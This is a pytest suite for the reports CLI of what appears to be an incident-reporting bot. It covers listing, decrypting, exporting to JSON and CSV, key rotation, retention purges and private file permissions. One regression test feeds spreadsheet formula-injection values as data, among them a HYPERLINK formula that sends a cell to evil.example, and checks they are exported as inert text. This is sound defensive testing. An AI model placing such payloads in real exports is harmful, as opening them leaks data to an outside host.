"""`standby reports list|show|export|rotate-keys` and `standby purge`."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.fernet import Fernet
from typer.testing import CliRunner

from bot.cli import app
from bot.cli.reports import _csv
from bot.services.clock import FixedClock
from bot.services.reports import ReportCipher, ReportService
from bot.storage import ContactRepository, ReportRepository, make_engine, make_sessionmaker

runner = CliRunner()
KEY = Fernet.generate_key().decode()
NEW_KEY = Fernet.generate_key().decode()
STORY = "A man on the 42 bus shouted at us"


@pytest.fixture
def stored(database_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """Two reports: one a year and a half old, one from today; returns today's code."""
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("REPORT_KEYS", KEY)
    monkeypatch.delenv("REPORT_RETENTION_DAYS", raising=False)
    return asyncio.run(_store(database_url))


async def _store(url: str) -> str:
    engine = make_engine(url)
    try:
        makers = make_sessionmaker(engine)
        now = datetime.now(UTC)
        person = await ContactRepository(makers).get_or_create(9, now=now)
        clock = FixedClock(now - timedelta(days=550))
        reports = ReportService(ReportRepository(makers), ReportCipher([KEY]), clock)
        old = {"story": "long ago", "about": ["race"]}
        await reports.submit(old, consent="keep", anonymous=True, contact=person)
        clock.advance(timedelta(days=550))
        answers = {"story": STORY, "about": ["race", "religion"], "evidence": None}
        return await reports.submit(answers, consent="police", anonymous=False, contact=person)
    finally:
        await engine.dispose()


def test_list_shows_no_answers(stored: str) -> None:
    result = runner.invoke(app, ["reports", "list"])

    assert result.exit_code == 0, result.output
    assert "police" in result.stdout
    assert "keep" in result.stdout
    assert "2 report(s)." in result.stdout
    assert STORY not in result.stdout


def test_list_since_a_day(stored: str) -> None:
    since = (datetime.now(UTC) - timedelta(days=2)).strftime("%Y-%m-%d")
    result = runner.invoke(app, ["reports", "list", "--since", since])

    assert result.exit_code == 0, result.output
    assert "1 report(s)." in result.stdout


def test_show_decrypts_the_answers(stored: str) -> None:
    listed = runner.invoke(app, ["reports", "export", "--format", "json"])
    newest = json.loads(listed.stdout)[-1]["id"]

    result = runner.invoke(app, ["reports", "show", str(newest)])

    assert result.exit_code == 0, result.output
    assert f"story: {STORY}" in result.stdout
    assert "about: race, religion" in result.stdout
    assert "consent: police" in result.stdout


def test_find_opens_the_report_a_code_belongs_to(stored: str) -> None:
    typed = stored.lower().replace("-", " ")  # as someone might read it out

    found = runner.invoke(app, ["reports", "find", typed])
    unknown = runner.invoke(app, ["reports", "find", "AAAA-AAAA-AAAA"])

    assert found.exit_code == 0, found.output
    assert f"story: {STORY}" in found.stdout
    assert unknown.exit_code == 2
    assert "no report has this reference code" in unknown.output


def test_export_json_and_csv(stored: str, tmp_path: Path) -> None:
    as_json = runner.invoke(app, ["reports", "export", "--format", "json"])
    output = tmp_path / "reports.csv"
    as_csv = runner.invoke(app, ["reports", "export", "--format", "csv", "-o", str(output)])

    assert as_json.exit_code == 0, as_json.output
    assert as_csv.exit_code == 0, as_csv.output
    exported = json.loads(as_json.stdout)
    assert [(r["consent"], r["status"], r["anonymous"]) for r in exported] == [
        ("keep", "new", True),
        ("police", "new", False),
    ]
    assert exported[1]["answers"]["story"] == STORY
    rows = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8"))))
    assert rows[1]["story"] == STORY
    assert rows[1]["about"] == "race, religion"
    assert rows[1]["consent"] == "police"
    assert output.stat().st_mode & 0o077 == 0  # decrypted: for the operator's eyes only


def test_rotate_keys_then_the_old_key_can_go(stored: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REPORT_KEYS", f"{NEW_KEY},{KEY}")
    rotated = runner.invoke(app, ["reports", "rotate-keys"])
    monkeypatch.setenv("REPORT_KEYS", NEW_KEY)
    exported = runner.invoke(app, ["reports", "export", "--format", "json"])

    assert rotated.exit_code == 0, rotated.output
    assert "2 report(s) re-encrypted" in rotated.stdout
    assert json.loads(exported.stdout)[1]["answers"]["story"] == STORY


def test_purge_deletes_reports_past_the_retention(stored: str) -> None:
    result = runner.invoke(app, ["purge"])
    listed = runner.invoke(app, ["reports", "list"])

    assert result.exit_code == 0, result.output
    assert "Deleted 1 report(s) older than 365 days" in result.stdout
    assert "1 report(s)." in listed.stdout


@pytest.mark.parametrize(
    ("keys", "args", "message"),
    [
        ("", ["reports", "show", "1"], "setting REPORT_KEYS is missing"),
        (NEW_KEY, ["reports", "export", "--format", "csv"], "setting REPORT_KEYS is wrong"),
        (KEY, ["reports", "show", "999"], "there is no report 999"),
        (KEY, ["reports", "list", "--since", "yesterday"], "option --since should be a day"),
        ("nonsense", ["reports", "list"], "setting REPORT_KEYS is wrong: should be Fernet keys"),
    ],
)
def test_problems_are_one_line_and_exit_2(
    stored: str, monkeypatch: pytest.MonkeyPatch, keys: str, args: list[str], message: str
) -> None:
    monkeypatch.setenv("REPORT_KEYS", keys)

    result = runner.invoke(app, args)

    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert STORY not in result.output
    assert "nonsense" not in result.output


def test_regression_csv_cells_that_a_spreadsheet_would_run_stay_text(
    database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("REPORT_KEYS", KEY)
    typed = {
        "story": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "area": "+44 20 7946 0000",
        "people": "-2+3",
        "what": "@SUM(A1)",
        "witnesses": "\t=1",
        "impact": "fine - really",
    }
    asyncio.run(_store_answers(database_url, typed))
    output = tmp_path / "reports.csv"

    result = runner.invoke(app, ["reports", "export", "--format", "csv", "-o", str(output)])

    assert result.exit_code == 0, result.output
    # Bytes, not read_text: its newline translation would turn the "\r" cell into "\n".
    (row,) = csv.DictReader(io.StringIO(output.read_bytes().decode("utf-8"), newline=""))
    for name, value in typed.items():
        expected = value if name == "impact" else "'" + value
        assert row[name] == expected


def test_regression_an_existing_output_file_is_made_private(stored: str, tmp_path: Path) -> None:
    output = tmp_path / "reports.json"
    output.write_text("old")
    output.chmod(0o644)

    result = runner.invoke(app, ["reports", "export", "--format", "json", "-o", str(output)])

    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(output.stat().st_mode) == 0o600
    assert STORY in output.read_text(encoding="utf-8")


async def _store_answers(url: str, answers: dict[str, Any]) -> None:
    engine = make_engine(url)
    try:
        makers = make_sessionmaker(engine)
        now = datetime.now(UTC)
        person = await ContactRepository(makers).get_or_create(9, now=now)
        reports = ReportService(ReportRepository(makers), ReportCipher([KEY]), FixedClock(now))
        await reports.submit(answers, consent="police", anonymous=False, contact=person)
    finally:
        await engine.dispose()


def test_regression_a_cell_starting_with_a_carriage_return_stays_text() -> None:
    # Not through a file: csv's reader would end the row at the lone "\r" it holds.
    row: dict[str, Any] = {"id": 1, "answers": {"story": "\r=1", "area": "Leeds"}}
    row |= dict.fromkeys(("created_at", "updated_at", "consent", "status", "anonymous"), "")
    row["additions"] = []

    assert "'\r=1" in _csv([row])
    assert ",Leeds" in _csv([row])
